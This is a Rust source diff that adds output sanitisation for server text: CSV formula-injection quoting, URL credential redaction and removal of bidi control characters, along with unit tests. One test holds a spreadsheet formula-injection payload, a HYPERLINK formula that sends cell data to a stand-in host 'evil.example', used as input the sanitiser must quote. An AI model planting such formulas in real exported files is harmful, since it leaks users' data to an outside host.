@@ -1,4 +1,4 @@
-//! Text from servers on its way to a terminal.
+//! Text from servers on its way to a terminal, a log, an error or a CSV file.
 
 use std::borrow::Cow;
 
@@ -24,9 +24,172 @@ pub fn sanitize(s: &str) -> Cow<'_, str> {
     )
 }
 
+/// `sanitize` for an owned string (what errors built from server text hold).
+pub fn clean(s: String) -> String {
+    match sanitize(&s) {
+        Cow::Borrowed(_) => s,
+        Cow::Owned(o) => o,
+    }
+}
+
+/// A CSV cell a spreadsheet will not run: sanitised, and a leading `'` before a cell that
+/// starts with `=`, `+`, `-`, `@`, a tab or a carriage return (Excel, LibreOffice and Google
+/// Sheets read those as a formula). A plain number (`-1500`, `1502500.50`: money columns
+/// are written as plain digits) is left as it is, so it stays a number.
+pub fn csv_cell(s: &str) -> Cow<'_, str> {
+    if is_plain_number(s) {
+        return Cow::Borrowed(s);
+    }
+    // Checked before sanitising: a tab or CR in front is what makes the formula.
+    let risky = |s: &str| s.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let leading_risk = risky(s);
+    let clean = sanitize(s);
+    if leading_risk || risky(&clean) {
+        return Cow::Owned(format!("'{clean}"));
+    }
+    clean
+}
+
+/// `-?digits` with at most one `.digits`: a number a spreadsheet reads as a number.
+fn is_plain_number(s: &str) -> bool {
+    let digits = s.strip_prefix('-').unwrap_or(s);
+    let (whole, fraction) = match digits.split_once('.') {
+        Some((w, f)) => (w, Some(f)),
+        None => (digits, None),
+    };
+    !whole.is_empty()
+        && whole.bytes().all(|b| b.is_ascii_digit())
+        && fraction.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
+}
+
+/// How a CSV file is laid out: plain (`,`, no BOM) or for a spreadsheet whose locale uses
+/// the comma for decimals, as Indonesian Excel does (`;` and a UTF-8 byte-order mark, so
+/// that the names keep their letters).
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct CsvStyle {
+    pub excel: bool,
+}
+
+impl CsvStyle {
+    pub const UTF8_BOM: &'static [u8] = b"\xEF\xBB\xBF";
+
+    pub fn delimiter(self) -> u8 {
+        if self.excel { b';' } else { b',' }
+    }
+
+    /// What goes before the first row.
+    pub fn preamble(self) -> &'static [u8] {
+        if self.excel { Self::UTF8_BOM } else { b"" }
+    }
+
+    /// A CSV writer in this style over `w` (the preamble is the caller's to write).
+    pub fn writer<W: std::io::Write>(self, w: W) -> csv::Writer<W> {
+        csv::WriterBuilder::new()
+            .delimiter(self.delimiter())
+            .from_writer(w)
+    }
+}
+
+/// A URL fit to show: user-info and query values masked (`https://svc:***@host/p?token=***`).
+/// Text that is not a URL is returned sanitised.
+pub fn redact_url(u: &str) -> String {
+    let Some((scheme, rest)) = u.split_once("://") else {
+        return sanitize(u).into_owned();
+    };
+    let (authority, tail) = match rest.find(['/', '?', '#']) {
+        Some(i) => rest.split_at(i),
+        None => (rest, ""),
+    };
+    let authority = match authority.rsplit_once('@') {
+        Some((info, host)) => match info.split_once(':') {
+            Some((user, _)) => format!("{user}:***@{host}"),
+            None => format!("***@{host}"),
+        },
+        None => authority.to_string(),
+    };
+    let (before_fragment, fragment) = match tail.split_once('#') {
+        Some((a, f)) => (a, Some(f)),
+        None => (tail, None),
+    };
+    let tail = match before_fragment.split_once('?') {
+        Some((path, query)) => {
+            let masked: Vec<String> = query
+                .split('&')
+                .map(|pair| match pair.split_once('=') {
+                    Some((k, _)) => format!("{k}=***"),
+                    None => pair.to_string(),
+                })
+                .collect();
+            format!("{path}?{}", masked.join("&"))
+        }
+        None => before_fragment.to_string(),
+    };
+    let mut out = format!("{scheme}://{authority}{tail}");
+    if let Some(f) = fragment {
+        out.push('#');
+        out.push_str(f);
+    }
+    sanitize(&out).into_owned()
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn formulas_are_quoted_and_plain_text_is_not() {
+        let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+        assert_eq!(csv_cell(evil), format!("'{evil}"));
+        for start in ["+1", "-1+2", "@SUM(A1)", "\tx", "\r=1"] {
+            assert!(csv_cell(start).starts_with('\''), "{start:?}");
+        }
+        assert_eq!(
+            csv_cell("\t=1"),
+            "' =1",
+            "the tab is made a space, the quote stays"
+        );
+        assert_eq!(
+            csv_cell("\u{1b}=1"),
+            "'=1",
+            "an escape does not hide a formula"
+        );
+        assert!(matches!(csv_cell("PT MAJU"), Cow::Borrowed("PT MAJU")));
+        assert_eq!(csv_cell("a=b"), "a=b");
+        for number in ["-1500", "1502500.50", "0", "-0.5"] {
+            assert!(
+                matches!(csv_cell(number), Cow::Borrowed(_)),
+                "{number} stays a number"
+            );
+        }
+        for not_number in ["-1+2", "-", "-.5", "-1.", "-1e5", "-1,5"] {
+            assert!(csv_cell(not_number).starts_with('\''), "{not_number}");
+        }
+        assert_eq!(csv_cell(""), "");
+        assert_eq!(csv_cell("BUDI\u{202E}"), "BUDI");
+    }
+
+    #[test]
+    fn urls_lose_their_secrets() {
+        assert_eq!(
+            redact_url("https://svc:pw@host:8443/api?token=abc&x=1#f"),
+            "https://svc:***@host:8443/api?token=***&x=***#f"
+        );
+        assert_eq!(redact_url("https://tok@host"), "https://***@host");
+        assert_eq!(redact_url("http://host/p"), "http://host/p");
+        assert_eq!(redact_url("http://host?flag"), "http://host?flag");
+        assert_eq!(redact_url("not a url"), "not a url");
+    }
+
+    #[test]
+    fn bidi_controls_are_removed() {
+        for c in [
+            '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}',
+            '\u{2068}', '\u{2069}', '\u{200E}', '\u{200F}',
+        ] {
+            assert_eq!(sanitize(&format!("a{c}b")), "ab", "{c:?}");
+        }
+        assert_eq!(clean("x\u{7}y".to_string()), "xy");
+    }
 
     #[test]
     fn escapes_cannot_reach_the_terminal() {
